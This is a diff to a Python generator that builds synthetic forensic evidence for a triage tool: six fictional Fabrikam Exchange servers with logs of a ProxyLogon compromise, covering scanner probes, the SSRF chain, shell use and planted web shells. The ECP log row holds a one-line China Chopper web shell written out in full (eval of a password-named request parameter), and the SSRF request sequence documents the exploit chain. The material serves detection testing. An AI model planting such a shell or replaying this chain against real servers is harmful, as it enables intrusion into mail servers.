@@ -57,6 +57,16 @@ event logs come from the Swift EVTX writer). Times are UTC.
     ex19_event_log_traces              notes: evtx records that must not fire
     ex19_build_and_coverage_notes      notes: .gitkeep, ECP #Version, coverage, build
 
+  fleet (python3 Samples/tools/make_samples.py --fleet DIR: six Fabrikam servers for `extriage case`)
+    fleet_everyday_traffic             health probes and users 05:00-11:00 on every server
+    fleet_scanner_probe                the mass scanner 192.0.2.150 (Nmap NSE agent): localhost SSRF probe, 500, 5 servers
+    fleet_proxylogon_chain             actor A (203.0.113.61, password Xk9orange) / B (198.51.100.77, p4ssB33): SSRF + ECP SetObject
+    fleet_shell_use                    the actor's GET and POSTs to its shell (FAB-MB2's shell is never called)
+    fleet_planted_shell                disk: A's aspnet_client/system_web/OutlookRT.aspx, B's aspnet_client/supp0rt.aspx
+    fleet_patch_taken                  notes: FAB-MB4's HttpProxy on 2021-03-05 carries the March 2021 SU build
+    FAB-MB1, FAB-MB2: actor A on 03-02; FAB-MB3: A then B on 03-03; FAB-MB4: B, patched 03-05;
+    FAB-MB5: scanned only; FAB-MB6: clean
+
 The log formats (field lists, headers, quoting, BOM) come from evidence_formats.py, shared with
 Benchmarks/generate_tree.py.
 
@@ -1869,6 +1879,172 @@ def update_readme(trees: dict[str, Tree]) -> None:
 EVTX_DIR = "Windows/System32/winevt/Logs"
 
 
+
+# --------------------------------------------------------------------------------------
+# Fleet: six servers of one synthetic organisation (Fabrikam), for `extriage case`
+# --------------------------------------------------------------------------------------
+
+FLEET_SCANNER_IP = "192.0.2.150"
+FLEET_SCANNER_UA = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
+
+
+@dataclass
+class FleetActor:
+    """One cluster of compromise: its own source, tools, shell and shell password."""
+    name: str
+    ip: str
+    ua: str
+    password: str
+    ssrf_stem: str
+    shell_rel: str      # the shell's path on the volume
+    shell_url: str
+
+
+FLEET_ACTOR_A = FleetActor("A", "203.0.113.61", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
+                           "Xk9orange", "/ecp/a7.js", "inetpub/wwwroot/aspnet_client/system_web/OutlookRT.aspx",
+                           "/aspnet_client/system_web/OutlookRT.aspx")
+FLEET_ACTOR_B = FleetActor("B", "198.51.100.77", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/89.0",
+                           "p4ssB33", "/ecp/b2.js", "inetpub/wwwroot/aspnet_client/supp0rt.aspx",
+                           "/aspnet_client/supp0rt.aspx")
+FLEET_VULNERABLE = (15, 1, 2176, 2)
+FLEET_PATCHED = (15, 1, 2176, 9)   # Exchange 2016 CU19 with the March 2021 SU
+
+
+def fleet_server(short: str, ip: str, seed: int) -> Server:
+    """A Fabrikam server: EXCH01's shape (users, install path) under another name, address and domain."""
+    srv = exch01()
+    srv.short, srv.fqdn, srv.ip = short, f"{short.lower()}.fabrikam.local", ip
+    srv.ext_host, srv.dom, srv.netbios = "mail.fabrikam.example", "fabrikam.local", "FABRIKAM"
+    srv.rng = random.Random(seed)
+    srv.build = FLEET_VULNERABLE
+    return srv
+
+
+def fleet_layout(srv: Server, day: dt.date) -> LogLayout:
+    """Logs of one day, HttpProxy hours 05-10 UTC."""
+    logging = f"{srv.exch_rel}/Logging"
+    stamp = day.strftime("%Y%m%d")
+    start = dt.datetime(day.year, day.month, day.day, tzinfo=UTC)
+    return LogLayout(
+        hp_hours=[start + dt.timedelta(hours=h) for h in range(5, 11)], iis_days=[day], be_days=[day], lower_ext=set(),
+        ecp_server=(f"{logging}/ECP/Server/ECPServer{stamp}-1.LOG", start + dt.timedelta(minutes=1)),
+        ecp_activity=(f"{logging}/ECP/Activity/ECPActivity_5512_{stamp}-1.LOG", start + dt.timedelta(minutes=1)),
+        oab=(f"{logging}/OABGeneratorLog/OABGenerator_{stamp}-1.LOG", start + dt.timedelta(minutes=12)),
+        oab_pid=6124, oab_name="\\Default Offline Address Book",
+        rps=(f"{logging}/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_{stamp}05-1.LOG", start + dt.timedelta(hours=5)),
+        rps_pid=7412, ecp_one_off_usid_first=True)
+
+
+def fleet_everyday_traffic(h: Host, day: dt.date) -> None:
+    """Health probes and users 05:00-11:00, one health Rps row and one idle HTTPERR line."""
+    srv = h.srv
+    start = dt.datetime(day.year, day.month, day.day, 5, tzinfo=UTC)
+    h.reqs += ordinary_traffic(srv, start, start + dt.timedelta(hours=6))
+    h.rps.append((start + dt.timedelta(minutes=3), f"{srv.netbios}\\{srv.health}", srv.sid(1151), False,
+                  "ActiveMonitor", "Get-Mailbox", '-ResultSize "1"'))
+    h.httperr.append(f"{day.isoformat()} 05:14:02 10.0.1.25 51822 {srv.ip} 443 - - - - - - Timer_ConnectionIdle -")
+
+
+def fleet_scanner_probe(h: Host, t: dt.datetime) -> None:
+    """The mass scanner every exposed server saw: an NSE-style localhost SSRF probe answered 500
+    (attempt only), with one shared agent and address."""
+    srv = h.srv
+    h.reqs.append(Req(end=t, proto="Owa", method="GET", stem="/owa/auth/x.js", host=srv.ip, ua=FLEET_SCANNER_UA,
+                      cip=FLEET_SCANNER_IP, status=500, proxied=False, anchor="ServerInfo~localhost/ecp/default.flt?",
+                      routing_hint="X-AnonResource-Backend-Cookie", owa_encoding=True, latency=31, error_code="ServerNotFound",
+                      generic_errors=("ProxyState-Error=ServerNotFound;WebException=System.Net.WebException: "
+                                      "Unable to connect to the remote server, inner: localhost:443; "
+                                      "ServerNotFoundException: Server localhost, not found")))
+
+
+def fleet_proxylogon_chain(h: Host, actor: FleetActor, t0: dt.datetime) -> None:
+    """The actor's chain: SSRF to proxyLogon.ecp (241), SetObject with its Chopper password in ExternalUrl."""
+    srv = h.srv
+    canary = srv.hexid(64) + "."
+    set_url = f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory"
+    stages = [("/autodiscover/autodiscover.xml?#", "/autodiscover/autodiscover.xml", "", 200),
+              ("/mapi/emsmdb/?#", "/mapi/emsmdb/", "", 200),
+              ("/ecp/proxyLogon.ecp?#", "/ecp/proxyLogon.ecp", "", 241),
+              (set_url + "#", "/ecp/DDI/DDIService.svc/SetObject", set_url.split("?", 1)[1], 200)]
+    for i, (target, be_stem, be_query, status) in enumerate(stages):
+        h.reqs.append(Req(end=t0 + dt.timedelta(seconds=3 * i), proto="Ecp", method="POST", stem=actor.ssrf_stem, host=srv.ext_host,
+                          ua=actor.ua, cip=actor.ip, status=status, anchor=f"ServerInfo~a]@{srv.fqdn}:444{target}",
+                          target_server=f"a]@{srv.fqdn}:444{target}", routing_type="", routing_hint="X-BEResource-Cookie",
+                          be_stem=be_stem, be_query=be_query, be_user=f"FABRIKAM\\{srv.short}$", latency=200))
+    script = ('http://f/<script language="JScript" runat="server">function Page_Load()'
+              f'{{eval(Request["{actor.password}"],"unsafe");}}</script>')
+    h.ecp.append(EcpRow(t0 + dt.timedelta(seconds=9, milliseconds=-80), 58, h.ecp_session(actor.name),
+                        f"Set-OabVirtualDirectory.ExternalUrl='{script}'.Identity='{srv.oab_vdir_guid}'", set_url))
+
+
+def fleet_shell_use(h: Host, actor: FleetActor, t0: dt.datetime) -> None:
+    """The actor calls its shell: a GET, then two POSTs answered 200."""
+    srv = h.srv
+    for i, method in enumerate(["GET", "POST", "POST"]):
+        h.reqs.append(iis_only(srv, t0 + dt.timedelta(seconds=20 * i), method, actor.shell_url, actor.ua, 200, None, cip=actor.ip))
+
+
+def fleet_planted_shell(h: Host, actor: FleetActor) -> None:
+    """disk: the actor's one-line Chopper (inert), the same bytes on every server it hit."""
+    h.tree.write_text(actor.shell_rel, chopper_one_liner(actor.password))
+
+
+def fleet_patch_taken(h: Host, at: dt.datetime) -> None:
+    """notes: the server takes the March 2021 SU: a later HttpProxy hour whose header and rows carry the new build."""
+    srv = h.srv
+    srv.build = FLEET_PATCHED
+    quiet = [probe(srv, proto, at + dt.timedelta(minutes=7 + i)) for i, proto in enumerate(PROTOCOLS)]
+    write_web_logs(h.tree, srv, finish(srv, quiet), [at], [], [], set(), h.layout.iis_logdir)
+
+
+def fleet_host(root: pathlib.Path, short: str, ip: str, seed: int, day: dt.date, steps) -> Tree:
+    """One Fabrikam server: everyday traffic, then `steps` (activity first, disk and notes after the logs)."""
+    srv = fleet_server(short, ip, seed)
+    activity = [lambda h: fleet_everyday_traffic(h, day)] + [f for kind, f in steps if kind == "activity"]
+    later = [f for kind, f in steps if kind != "activity"]
+    return build_host(root, srv, fleet_layout(srv, day), activity, later, [])
+
+
+def make_fleet(out: pathlib.Path) -> dict[str, Tree]:
+    """Six Fabrikam servers: FAB-MB1/FAB-MB2 hit by actor A, FAB-MB3 by A then B, FAB-MB4 by B and
+    patched two days later, FAB-MB5 only scanned, FAB-MB6 clean (not exposed)."""
+    d2, d3 = dt.date(2021, 3, 2), dt.date(2021, 3, 3)
+    A, B = FLEET_ACTOR_A, FLEET_ACTOR_B
+
+    def act(f):
+        return ("activity", f)
+
+    def disk(f):
+        return ("disk", f)
+
+    def scan(day, minute):
+        return act(lambda h: fleet_scanner_probe(h, dt.datetime(day.year, day.month, day.day, 5, minute, 11, tzinfo=UTC)))
+
+    def hit(actor, day, hour, used=True):
+        t0 = dt.datetime(day.year, day.month, day.day, hour, 12, 5, tzinfo=UTC)
+        steps = [act(lambda h: fleet_proxylogon_chain(h, actor, t0)), disk(lambda h: fleet_planted_shell(h, actor))]
+        if used:
+            steps.append(act(lambda h: fleet_shell_use(h, actor, t0 + dt.timedelta(minutes=14))))
+        return steps
+
+    plan = {
+        "FAB-MB1": ("10.20.0.11", 2101, d2, [scan(d2, 20)] + hit(A, d2, 6)),
+        "FAB-MB2": ("10.20.0.12", 2102, d2, [scan(d2, 21)] + hit(A, d2, 7, used=False)),
+        "FAB-MB3": ("10.20.0.13", 2103, d3, [scan(d3, 22)] + hit(A, d3, 6) + hit(B, d3, 9)),
+        "FAB-MB4": ("10.20.0.14", 2104, d3, [scan(d3, 23)] + hit(B, d3, 8)
+                    + [("notes", lambda h: fleet_patch_taken(h, dt.datetime(2021, 3, 5, 9, tzinfo=UTC)))]),
+        "FAB-MB5": ("10.20.0.15", 2105, d3, [scan(d3, 24)]),
+        "FAB-MB6": ("10.20.0.16", 2106, d3, []),
+    }
+    trees = {}
+    for short, (ip, seed, day, steps) in plan.items():
+        root = out / short.lower()
+        if root.exists():
+            shutil.rmtree(root)
+        trees[short] = fleet_host(root, short, ip, seed, day, steps)
+    return trees
+
+
 def generate(images: pathlib.Path) -> dict[str, Tree]:
     trees = {}
     for name, fn in (("exchange2016-compromised", make_compromised), ("exchange2019-clean", make_clean)):
@@ -1892,7 +2068,12 @@ def main(argv: list[str]) -> int:
     assert not unlisted, f"add these scenario functions to the table at the top: {unlisted}"
     ap = argparse.ArgumentParser(description="Generate Samples/images/ trees")
     ap.add_argument("--check", action="store_true", help="regenerate in a temp dir and compare")
+    ap.add_argument("--fleet", metavar="DIR", help="write the six Fabrikam fleet trees into DIR instead")
     args = ap.parse_args(argv)
+    if args.fleet:
+        for name, tree in make_fleet(pathlib.Path(args.fleet)).items():
+            print(f"{args.fleet}/{name.lower()}")
+        return 0
     if args.check:
         with tempfile.TemporaryDirectory() as tmp:
             tmp_images = pathlib.Path(tmp) / "images"
